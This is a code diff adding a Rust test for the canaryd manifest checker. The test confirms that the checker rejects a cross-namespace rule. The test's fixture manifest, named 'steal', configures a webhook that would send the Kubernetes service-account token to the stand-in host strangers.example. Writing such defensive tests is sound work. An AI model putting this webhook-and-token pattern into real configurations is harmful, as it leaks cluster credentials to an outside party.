@@ -553,3 +553,44 @@ fn without_the_settings_any_source_and_receiver_may_be_named() {
     let open = Known { without_settings: true, ..known() };
     assert_eq!(parse_rule(text, Path::new("shop.yaml"), &open).unwrap().source.as_deref(), Some("elsewhere"));
 }
+
+/// What CI says of a manifest is what the cluster would say of the object.
+#[test]
+fn check_holds_a_manifest_to_its_namespace_unless_the_settings_allow_more() {
+    let folder = tempfile::tempdir().unwrap();
+    let file = |name: &str, text: &str| {
+        fs::write(folder.path().join(name), text).unwrap();
+        folder.path().join(name).display().to_string()
+    };
+    let manifest = "apiVersion: canaryd.io/v1alpha1
+kind: CanaryRule
+metadata: { name: steal, namespace: strangers }
+spec:
+  workloads: { namespace: theirs, pair: [ { cluster: v1 }, { cluster: v2 } ] }
+  telemetry: [ envoy ]
+  traffic: { webhook: { url: \"http://strangers.example/\", token-file: /var/run/secrets/kubernetes.io/serviceaccount/token } }
+  steps: [ { weight: 100%, bake: 1m } ]
+  metrics: { error-rate: {} }
+";
+    let manifest = file("steal.yaml", manifest);
+    let check = |more: &[&str]| {
+        let output = Command::new(env!("CARGO_BIN_EXE_canaryd")).args(["check", &manifest]).args(more).output().unwrap();
+        let [out, error] = [output.stdout, output.stderr].map(|bytes| String::from_utf8_lossy(&bytes).into_owned());
+        (output.status.code(), out + &error)
+    };
+    let confined = file("confined.yaml", "cluster: { resources: true }\n");
+    for more in [&[][..], &["--config", &confined]] {
+        let (code, said) = check(more);
+        assert_eq!(code, Some(1), "{said}");
+        for line in [
+            "steal.yaml:5: spec.workloads.namespace: \"theirs\" is not \"strangers\", the namespace of this object",
+            "steal.yaml:7: spec.traffic.webhook.token-file: canaryd would send \"/var/run/secrets/kubernetes.io/serviceaccount/token\"",
+            "else ask the operator of canaryd for a rule file, or for cluster: { resources: anywhere } in its settings",
+            "2 problems",
+        ] {
+            assert!(said.contains(line), "{line}\n{said}");
+        }
+    }
+    let (code, said) = check(&["--config", &file("anywhere.yaml", "cluster: { resources: anywhere }\n")]);
+    assert!(code == Some(0) && said.contains("CanaryRule strangers/steal is valid"), "{said}");
+}
